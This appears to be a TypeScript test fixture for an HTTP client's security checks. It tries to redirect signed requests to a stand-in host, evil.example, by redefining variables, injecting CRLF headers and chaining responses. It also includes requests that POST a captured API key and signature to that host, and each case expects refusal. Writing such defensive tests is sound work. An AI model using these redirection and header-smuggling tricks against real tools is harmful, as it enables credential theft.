import { answer } from '../../support/raw-server';
import type { Volley } from './attack';

const GROUP = 'b: variables';
const EVIL = 'https://evil.example';

/** `{{baseUrl}}` of somebody else, by one way. */
const redefined = (how: string, volley: Partial<Volley>): Volley => ({
  group: GROUP,
  how,
  against: 'live',
  ...volley,
  attacks: [{ tried: `{{baseUrl}} redefined ${how}`, request: 'GET {{baseUrl}}/ID', expect: 'refused' }],
});

export const variables: readonly Volley[] = [
  redefined('in the file', { preamble: `@baseUrl = ${EVIL}` }),
  redefined('in an environment file', {
    files: { 'http-client.env.json': JSON.stringify({ dev: { baseUrl: EVIL } }) },
    args: ['--env', 'dev'],
  }),
  redefined('for all environments, with none chosen', {
    files: { 'http-client.env.json': JSON.stringify({ $shared: { baseUrl: EVIL } }) },
  }),
  redefined('in .env', { files: { '.env': `baseUrl=${EVIL}\n` } }),
  redefined('in the settings of the workspace', {
    files: {
      '.vscode/settings.json': JSON.stringify({ 'rest-client.environmentVariables': { $shared: { baseUrl: EVIL } } }),
    },
  }),
  redefined('by --var', { args: ['--var', `baseUrl=${EVIL}`] }),
  {
    group: GROUP,
    how: 'hosts and headers made of variables',
    against: 'live',
    preamble: '@scheme = https\n@name = evil\n@domain = example\n@at = @\n@host = restlink23telecom.com',
    args: ['--var', 'lines=one\r\nHost: evil.example\r\nX-More: 1', '--var', 'line=one\nX-More: 1'],
    env: { EVIL_HOST: 'evil.example' },
    attacks: [
      { tried: 'the host of several variables', request: 'GET {{scheme}}://{{name}}.{{domain}}/ID', expect: 'refused' },
      {
        tried: 'the @ from a variable',
        request: 'GET https://{{host}}{{at}}{{name}}.{{domain}}/ID',
        expect: 'refused',
      },
      {
        tried: 'the host from the environment',
        request: 'GET https://{{$processEnv EVIL_HOST}}/ID',
        expect: 'refused',
      },
      {
        tried: 'a line break in the value of a header',
        request: 'GET https://restlink23telecom.com/ID\nX-Injected: {{lines}}',
        expect: 'invalid',
      },
      {
        tried: 'a line feed in the value of a header',
        request: 'GET https://restlink23telecom.com/ID\nX-Injected: {{line}}',
        expect: 'invalid',
      },
      {
        tried: 'a line break in the name of a header',
        request: 'GET https://restlink23telecom.com/ID\n{{lines}}: 1',
        expect: 'invalid',
      },
      {
        tried: 'a line break in the address',
        request: 'GET https://restlink23telecom.com/ID{{lines}}',
        expect: 'sent to the bound origin only',
        wire: (bytes) => {
          if (/\r\n(?:X-More|Host: evil)/.test(bytes)) throw new Error('a header was smuggled in');
        },
      },
      {
        tried: 'a prompt as the host, where nobody can answer',
        request: '# @prompt where Where to?\nGET https://{{where}}/ID',
        expect: 'unresolved',
      },
    ],
  },
  {
    group: GROUP,
    how: 'an answer that names the next host',
    against: 'live',
    respond: answer('200 OK', JSON.stringify({ url: EVIL, host: 'evil.example', at: '@evil.example' })),
    attacks: [
      {
        tried: 'a first request, whose answer names another host',
        request: '# @name first\nGET https://restlink23telecom.com/ID',
        expect: 'sent to the bound origin only',
      },
      { tried: 'the address from that answer', request: 'GET {{first.response.body.$.url}}/ID', expect: 'refused' },
      {
        tried: 'the host from that answer',
        request: 'GET https://{{first.response.body.$.host}}/ID',
        expect: 'refused',
      },
      {
        tried: 'an @ and a host from that answer',
        request: 'GET https://restlink23telecom.com{{first.response.body.$.at}}/ID',
        expect: 'refused',
      },
      {
        tried: 'the key that was sent, from that exchange',
        request: `# @no-sign\nPOST ${EVIL}/ID\n\n{{first.request.headers.X-API-Key}}`,
        expect: 'unresolved',
      },
      {
        tried: 'the signature that was sent, from that exchange',
        request: `# @no-sign\nPOST ${EVIL}/ID\n\n{{first.request.headers.$['X-Signature']}}`,
        expect: 'unresolved',
      },
    ],
  },
  {
    group: GROUP,
    how: 'a credential that is named in the file of a stranger',
    against: 'local',
    credential: 'environment',
    attacks: [
      {
        tried: '# @credential with a stored one, to another host',
        request: `# @credential vault\nGET ${EVIL}/ID`,
        expect: 'refused',
      },
      {
        tried: '# @credential twice, the stored one last',
        request: `# @credential environment\n# @credential vault\nGET ${EVIL}/ID`,
        expect: 'refused',
      },
      {
        tried: '# @credential and # @no-sign together',
        request: `# @credential vault\n# @no-sign\nGET ${EVIL}/ID`,
        expect: 'sent bare',
      },
      {
        tried: '# @credential sandbox while none runs',
        request: '# @credential sandbox\nGET /ID',
        expect: 'credential',
      },
      {
        tried: '# @credential with the name of a variable that holds it',
        request: `@which = vault\n# @credential {{which}}\nGET ${EVIL}/ID`,
        expect: 'credential',
      },
    ],
  },
];
